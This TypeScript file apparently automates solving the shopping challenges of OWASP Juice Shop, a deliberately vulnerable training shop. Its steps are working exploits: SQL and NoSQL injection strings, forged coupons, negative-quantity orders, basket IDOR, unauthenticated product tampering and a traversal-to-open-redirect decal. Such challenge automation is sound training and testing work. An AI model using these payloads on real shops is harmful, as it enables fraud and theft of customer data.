import type { CallOptions, Game, Step } from './client.ts';
import { MONTHS, z85 } from '../../api/z85.ts';

/**
 * The shopping challenges, played by customers of the game's own (registered here) so that the
 * seeded users' baskets, wallets and memberships stay as other areas expect them.
 */
type Shopper = { email: string; token: string; bid: number; cardId: number };

const PASSWORD = 'shopping-spree-42';
/**
 * What the shoppers buy: Orange Juice, plenty in stock and no limit per customer (Apple Juice, the
 * first stock row, is left alone for other players).
 */
const ORANGE_JUICE = 2;

async function register(game: Game, email: string) {
  await game.ok('/api/Users', { body: { email, password: PASSWORD, passwordRepeat: PASSWORD } });
  const { token, bid } = await game.login(email, PASSWORD);
  // a card to pay with, as the payment step of the checkout needs one
  const card = await game.ok('/api/Cards', {
    token,
    body: { fullName: 'Game Shopper', cardNum: 4716190207394368, expMonth: 12, expYear: 2090 },
  });
  return { email, token, bid, cardId: card.json.data.id as number } satisfies Shopper;
}

/** The game's shoppers by role, registered on first use (each step can also run alone). */
const shoppers = new WeakMap<Game, Map<string, Promise<Shopper>>>();
function shopper(game: Game, role: string): Promise<Shopper> {
  let mine = shoppers.get(game);
  if (!mine) {
    mine = new Map();
    shoppers.set(game, mine);
  }
  let s = mine.get(role);
  if (!s) {
    s = register(game, `game-${role}-${Date.now().toString(36)}@juice-sh.op`);
    mine.set(role, s);
  }
  return s;
}

const as = (who: Shopper, options: CallOptions = {}): CallOptions => ({ ...options, token: who.token });

/** Puts `quantity` of a product into the shopper's own basket; the item's id. */
async function addToBasket(game: Game, who: Shopper, ProductId: number, quantity = 1) {
  const { json } = await game.ok('/api/BasketItems', as(who, { body: { ProductId, BasketId: String(who.bid), quantity } }));
  return json.data.id as number;
}

/** The order summary's checkout: base64 coupon details (of null without a campaign), Standard Delivery and the card. */
async function checkout(game: Game, who: Shopper, couponDetails: string | null = null) {
  return game.ok(
    `/rest/basket/${who.bid}/checkout`,
    as(who, {
      body: {
        couponData: Buffer.from(String(couponDetails)).toString('base64'),
        orderDetails: { paymentId: who.cardId, deliveryMethodId: 3 },
      },
    }),
  );
}

const DECAL = '../../../redirect?to=https://cataas.com/cat?x=https://github.com/juice-shop/juice-shop';

export const steps: Step[] = [
  {
    // the basket id comes from the client (sessionStorage): another one shows another's basket
    solves: ['basketAccessChallenge'],
    run: async (game) => {
      const [me, other] = await Promise.all([shopper(game, 'buyer'), shopper(game, 'victim')]);
      await game.ok(`/rest/basket/${other.bid}`, as(me));
    },
  },
  {
    // the ownership check reads the first BasketId key, JSON.parse keeps the last
    solves: ['basketManipulateChallenge'],
    run: async (game) => {
      const [me, other] = await Promise.all([shopper(game, 'buyer'), shopper(game, 'victim')]);
      await game.ok(
        '/api/BasketItems',
        as(me, {
          body: `{"ProductId":14,"BasketId":"${me.bid}","quantity":1,"BasketId":"${other.bid}"}`,
          headers: { 'content-type': 'application/json' },
        }),
      );
    },
  },
  {
    // no server-side check of the quantity's sign: the order totals below zero
    solves: ['negativeOrderChallenge'],
    run: async (game) => {
      const me = await shopper(game, 'buyer');
      const item = await addToBasket(game, me, ORANGE_JUICE);
      // small enough that the stock the checkout gives back stays within what the shop's forms accept
      await game.ok(`/api/BasketItems/${item}`, as(me, { method: 'PUT', body: { quantity: -10 } }));
      await checkout(game, me);
    },
  },
  {
    // coupons are z85 of `MMMYY-NN` with no secret: one of this month worth 99 %
    solves: ['forgedCouponChallenge'],
    run: async (game) => {
      const me = await shopper(game, 'buyer');
      await addToBasket(game, me, ORANGE_JUICE);
      const now = new Date();
      const coupon = z85(`${MONTHS[now.getMonth()]}${String(now.getFullYear()).slice(2)}-99`);
      await game.ok(`/rest/basket/${me.bid}/coupon/${encodeURIComponent(coupon)}`, as(me, { method: 'PUT' }));
      await checkout(game, me);
    },
  },
  {
    // a campaign's date comes from the client's clock: its campaign day (Women's Day 2019) is sent as today
    solves: ['manipulateClockChallenge'],
    run: async (game) => {
      const me = await shopper(game, 'buyer');
      await addToBasket(game, me, ORANGE_JUICE);
      await checkout(game, me, 'WMNSDY2019-1551999600000');
    },
  },
  {
    // the search's SQL injection comments out `deletedAt IS NULL`, which shows the deleted box and its id
    solves: ['christmasSpecialChallenge'],
    run: async (game) => {
      const me = await shopper(game, 'buyer');
      const { json } = await game.ok(`/rest/products/search?q=${encodeURIComponent("'))--")}`);
      const box = (json.data as Array<{ id: number; name: string }>).find((p) => p.name.includes('Christmas Super-Surprise-Box'));
      if (!box) throw new Error('the Christmas box is not in the search answer');
      await addToBasket(game, me, box.id);
      await checkout(game, me);
    },
  },
  {
    // PUT /api/Products/:id takes no login: O-Saft's "More..." link goes to Slack. The original
    // description goes back after the solve (the check runs on the write itself).
    solves: ['changeProductChallenge'],
    run: async (game) => {
      const { json } = await game.ok(`/rest/products/search?q=${encodeURIComponent('O-Saft')}`);
      const osaft = (json.data as Array<{ id: number; name: string; description: string }>).find((p) => p.name.includes('O-Saft'));
      if (!osaft) throw new Error('O-Saft is not in the search answer');
      const tampered = osaft.description.replace('https://www.owasp.org/index.php/O-Saft', 'https://owasp.slack.com');
      await game.ok(`/api/Products/${osaft.id}`, { method: 'PUT', body: { description: tampered } });
      const solved = await game.solvedKeys();
      if (solved.has('changeProductChallenge'))
        await game.ok(`/api/Products/${osaft.id}`, { method: 'PUT', body: { description: osaft.description } });
    },
  },
  {
    // only paymentMode `wallet` or `card` is charged: no body at all upgrades for free
    solves: ['freeDeluxeChallenge'],
    run: async (game) => {
      const me = await shopper(game, 'deluxe');
      await game.ok('/rest/deluxe-membership', as(me, { method: 'POST' }));
    },
  },
  {
    // the order id goes into a `$where` JavaScript condition: break out and make it always true
    solves: ['noSqlOrdersChallenge'],
    run: async (game) => {
      const { json } = await game.ok(`/rest/track-order/${encodeURIComponent("' || true || '")}`);
      if (!(json.data?.length > 1)) throw new Error(`expected every order, got ${JSON.stringify(json).slice(0, 200)}`);
    },
  },
  {
    // the export finds orders by the vowel-masked email: admun@ masks like admin@ (*dm*n@j**c*-sh.*p)
    solves: ['dataExportChallenge'],
    run: async (game) => {
      const email = 'admun@juice-sh.op';
      const registered = await game.call('/api/Users', { body: { email, password: PASSWORD, passwordRepeat: PASSWORD } });
      if (registered.status !== 201 && registered.status !== 400) throw new Error(`registering ${email}: ${registered.status}`);
      const { token } = await game.login(email, PASSWORD);
      await game.ok('/rest/user/data-export', { token, body: { format: '1' } });
    },
  },
  {
    // the deluxe page's forgotten testDecal parameter becomes an image path that climbs to the
    // open redirect; the page reports the decal over its socket, so this needs the browser
    solves: ['svgInjectionChallenge'],
    run: async (game) => {
      const me = await shopper(game, 'buyer');
      const { context, page } = await game.page();
      try {
        // the page is for logged-in customers: the login is kept where the shop's client keeps it
        await context.addCookies([{ name: 'token', value: me.token, url: game.url }]);
        await page.addInitScript((token) => localStorage.setItem('token', token), me.token);
        await page.goto(`${game.url}/deluxe-membership?testDecal=${encodeURIComponent(DECAL)}`);
        await page.locator('.challenge-solved-toast', { hasText: 'Cross-Site Imaging' }).waitFor();
      } finally {
        await context.close();
      }
    },
  },
];
